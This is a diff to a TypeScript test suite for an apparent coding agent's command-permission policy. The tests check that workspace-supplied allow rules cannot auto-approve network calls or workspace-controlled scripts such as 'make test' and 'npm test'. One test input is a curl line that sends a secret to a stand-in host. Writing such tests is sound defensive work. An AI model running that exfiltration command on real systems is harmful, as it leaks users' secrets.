@@ -109,6 +109,13 @@ const TABLE: Row[] = [
     { 'full-auto': 'allow' },
   ],
   [
+    "the workspace's own code (a Makefile's recipes)",
+    'bash',
+    { command: 'make test' },
+    { 'read-only': 'deny', ask: 'ask', 'auto-edit': 'ask', 'full-auto': 'ask' },
+    { 'full-auto': 'allow' },
+  ],
+  [
     'a network command',
     'bash',
     { command: 'curl https://x.example' },
@@ -195,19 +202,24 @@ describe('trust, rules and grants', () => {
 
   it("an allow rule only the workspace's own file gives never lets a line use the network", async () => {
     for (const sandboxed of [false, true]) {
-      const base = rules({ commands: { allow: ['curl *', 'npm test *'] } });
-      const fromWorkspace: PolicyRules = { ...base, workspaceOnlyCommandAllow: ['curl *', 'npm test *'] };
+      const base = rules({ commands: { allow: ['curl *', 'npm test *', 'ls *'] } });
+      const fromWorkspace: PolicyRules = { ...base, workspaceOnlyCommandAllow: ['curl *', 'npm test *', 'ls *'] };
       const c = ctx(sandboxed ? 'full-auto' : 'ask', sandboxed, { rules: fromWorkspace });
       const d = await decide(getTool('bash')!, { command: 'curl -s https://x.example/?d=secret' }, c);
       assert.equal(d.verdict, 'ask', `sandboxed: ${sandboxed}`);
       assert.match(d.reason, /workspace's own rules/);
       assert.ok(d.grant, 'the user can still grant it');
-      if (!sandboxed)
+      if (!sandboxed) {
         assert.equal(
-          await verdict('bash', { command: 'npm test' }, c),
+          await verdict('bash', { command: 'ls src' }, c),
           'allow',
           'a workspace rule still allows a local command',
         );
+        // Unconfined, `npm test` runs the workspace's own scripts: the workspace cannot vouch for them.
+        const own = await decide(getTool('bash')!, { command: 'npm test' }, c);
+        assert.equal(own.verdict, 'ask');
+        assert.match(own.reason, /runs code the workspace controls.*workspace's own rules/);
+      }
       const yours = ctx(sandboxed ? 'full-auto' : 'ask', sandboxed, { rules: base });
       assert.equal(
         await verdict('bash', { command: 'curl -s https://x.example/' }, yours),
